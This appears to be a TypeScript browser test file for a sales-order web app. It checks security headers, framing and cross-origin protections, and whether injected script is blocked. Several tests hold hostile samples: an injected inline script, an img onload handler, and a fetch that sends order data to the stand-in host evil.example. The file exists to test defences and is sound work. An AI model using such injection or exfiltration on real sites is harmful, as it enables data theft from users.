import type { Page } from 'playwright-core'
import { expect, it } from 'vitest'
import { openPage, useBrowser } from './testing/people.ts'
import { RunningExample } from './testing/running-example.ts'

useBrowser()

/** What the page was kept from doing, by the directive that forbids it. */
async function violationsOf(page: Page, tryOut: () => unknown): Promise<string[]> {
  await page.evaluate(() => {
    const seen: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      seen.push(effectiveDirective)
      Object.assign(globalThis, { seen })
    })
  })
  await page.evaluate(tryOut)
  await page.waitForFunction(() => 'seen' in globalThis)
  return page.evaluate(() => (globalThis as unknown as { seen: string[] }).seen)
}

const refused = /Content Security Policy|violates the following/

it('says on each of its files what may be done with it', async () => {
  const example = await RunningExample.start()
  const text = await (await fetch(example.url())).text()
  expect(text).not.toMatch(/<script(?![^>]* src=)|<style| style=| on\w+=/)
  const script = /src="\/(assets\/[^"]+)"/.exec(text)?.[1]
  for (const path of ['', 'index.html', 'orders/none', script!, 'service-worker.js', 'theme.js']) {
    const { status, headers } = await fetch(example.url(path))
    expect(status).toBe(200)
    expect(headers.get('content-security-policy')).toMatch(/^default-src 'none'; /)
    expect(headers.get('content-security-policy')).not.toContain('unsafe')
    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'")
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    expect(headers.get('referrer-policy')).toBe('no-referrer')
    expect(headers.get('cross-origin-opener-policy')).toBe('same-origin')
  }
})

it('runs no script that somebody has smuggled in, and sends nothing elsewhere', async () => {
  const example = await RunningExample.start()
  const open = async () => {
    const page = await openPage({ expected: refused })
    await page.goto(example.url())
    await page.getByText('No orders yet').waitFor()
    return page
  }
  const inline = await open()
  const smuggled = () => {
    const script = document.createElement('script')
    script.textContent = "document.title = 'smuggled'"
    document.body.append(script)
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="/icon.svg" onload="document.title = \'smuggled\'">',
    )
  }
  expect(await violationsOf(inline, smuggled)).toEqual(expect.arrayContaining(['script-src-elem']))
  expect(await inline.title()).toBe('Sales orders')
  const elsewhere = await open()
  const send = () => fetch('https://evil.example/?order=1').catch(() => {})
  expect(await violationsOf(elsewhere, send)).toEqual(['connect-src'])
})

it('cannot be shown in a frame of another page', async () => {
  const [example, other] = [await RunningExample.start(), await RunningExample.start()]
  const page = await openPage({ expected: /frame|Failed to load resource/i })
  await page.route(other.url('frame'), (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${example.url()}"></iframe>` }),
  )
  await page.goto(other.url('frame'))
  const frame = page.frames().at(-1)!
  await expect.poll(() => frame.url()).toMatch(/^chrome-error:/)
})

it('can be used by its own origin, and its server by no page of another machine', async () => {
  const example = await RunningExample.start()
  const page = await openPage({ expected: /CORS|Failed to load resource|WebSocket/ })
  // A page of another site, as the browser sees it.
  await page.route('http://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: 'Hello' }),
  )
  await page.goto('http://evil.example/')
  const { opened, answered } = await page.evaluate(
    async ([http, webSocket]) => {
      const socket = new WebSocket(webSocket!)
      const isOpen = new Promise<boolean>((resolve) => {
        socket.addEventListener('open', () => resolve(true))
        socket.addEventListener('error', () => resolve(false))
      })
      const answer = fetch(`${http}records/salesOrder`).then(
        () => true,
        () => false,
      )
      return { opened: await isOpen, answered: await answer }
    },
    [example.url(), example.webSocketUrl],
  )
  expect({ opened, answered }).toEqual({ opened: false, answered: false })
})
